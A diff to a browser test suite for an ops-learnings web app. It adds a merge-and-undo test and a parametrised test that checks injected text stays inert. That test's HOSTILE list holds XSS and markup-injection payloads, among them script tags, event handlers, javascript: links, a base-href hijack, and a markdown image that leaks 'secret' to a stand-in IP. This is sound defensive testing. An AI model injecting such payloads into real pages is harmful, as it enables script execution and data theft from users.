@@ -10,6 +10,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from commandline import document, opsloop
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.needs("chromium"), pytest.mark.xdist_group("browser")]
 
@@ -79,7 +80,8 @@ def test_search_and_filter_narrow_the_learnings(page: Any) -> None:
     page.goto("/learnings")
     total = page.locator("#entries tbody tr").count()
     page.fill("#q", "connection pool")
-    page.wait_for_function(f"document.querySelectorAll('#entries tbody tr').length < {total}")
+    page.wait_for_url("**q=connection+pool**")
+    assert page.locator("#entries tbody tr").count() < total
     assert "Connection pool" in page.locator("#entries").inner_text()
     page.fill("#q", "")
     page.select_option("select[name=kind]", "learning")
@@ -98,7 +100,7 @@ def test_an_entry_shows_its_evidence(page: Any) -> None:
 
 def test_now_follows_the_data_live(page: Any, server: Any) -> None:
     page.goto("/")
-    page.wait_for_function("!document.body.innerText.includes('Counting')")
+    page.get_by_text("Counting").first.wait_for(state="detached")
     now = datetime.now(UTC).isoformat()
     incident = {
         "id": "live-incident", "source": "signals", "kind": "incident", "status": "detected", "at": now,
@@ -110,7 +112,7 @@ def test_now_follows_the_data_live(page: Any, server: Any) -> None:
         {"Content-Type": "application/json"},
     )
     assert urllib.request.urlopen(request, timeout=30).status == 202
-    page.wait_for_function("document.body.innerText.includes('Seen live in the browser')")
+    page.get_by_text("Seen live in the browser").wait_for()
     assert page.wrong == []
 
 
@@ -161,3 +163,63 @@ def test_a_slider_changes_what_the_backtest_finds(page: Any) -> None:
     many = page.locator("#found .figure").inner_text()
     page.goto("/backtest?detector=alert_fatigue&days=30&set.max_episodes_per_day=150")
     assert page.locator("#found .figure").inner_text() != many
+
+
+def test_a_merge_is_clicked_and_undone(page: Any, approver: str, company: Path) -> None:
+    made = []
+    for number in (1, 2):
+        entry = {
+            "kind": "issue",
+            "name": f"ledger_export_stuck_{number}",
+            "summary": "Ledger export hangs on a stale advisory lock",
+            "root_cause": "the export waits for an advisory lock that a dead session holds",
+            "metadata": {"Pattern-Key": f"incident_pattern.ledger-lock-{number}", "Service": "ledger"},
+        }
+        done = opsloop(company, "log", "issue", "--from-json", "-", "--json", given=json.dumps(entry))
+        made.append(document(done)["id"])
+    page.goto("/login?next=/patterns")
+    page.fill("input[name=token]", approver)
+    page.click("main button")
+    page.wait_for_url("**/patterns")
+    row = (
+        page.locator("tr", has=page.locator("button", has_text="Merge"))
+        .filter(has_text=made[0])
+        .filter(has_text=made[1])
+    )
+    for _ in range(30):
+        if row.count():
+            break
+        page.wait_for_timeout(1_000)
+        page.reload()
+    row.locator("button").click()
+    merged = page.locator("li", has=page.locator("button", has_text="Undo"))
+    merged.first.wait_for()
+    merged.first.locator("button").click()
+    page.wait_for_url("**/patterns")
+    assert page.locator("li", has=page.locator("button", has_text="Undo")).count() == 0
+
+
+HOSTILE = [
+    "<script>document.title='owned'</script>",
+    "<img src=x onerror=\"document.title='owned'\">",
+    "[click](javascript:document.title='owned')",
+    "![leak](http://192.0.2.1/?q=secret)",
+    "\"><svg onload=document.title='owned'>",
+    "<a href='//192.0.2.1'>x</a><base href='http://192.0.2.1/'>",
+    "</title><script>document.title='owned'</script>",
+    "<iframe src='javascript:document.title=1'></iframe>",
+    "`<style>*{display:none}</style>`",
+]
+
+
+@pytest.mark.parametrize("number", range(len(HOSTILE)))
+def test_hostile_text_is_inert(number: int, page: Any, company: Path) -> None:
+    text = HOSTILE[number]
+    entry = {"kind": "issue", "name": f"hostile_{number}", "summary": text, "details": f"# heading\n\n{text}\n"}
+    entry["metadata"] = {"Service": text, "Pattern-Key": f"incident_pattern.hostile-{number}"}
+    made = document(opsloop(company, "log", "issue", "--from-json", "-", "--json", given=json.dumps(entry)))["id"]
+    for path in (f"/learnings/{made}", "/learnings?q=hostile", "/patterns"):
+        page.goto(path)
+        assert "owned" not in page.title()
+    assert page.locator("main script, main iframe, main base, main style").count() == 0
+    assert page.wrong == []
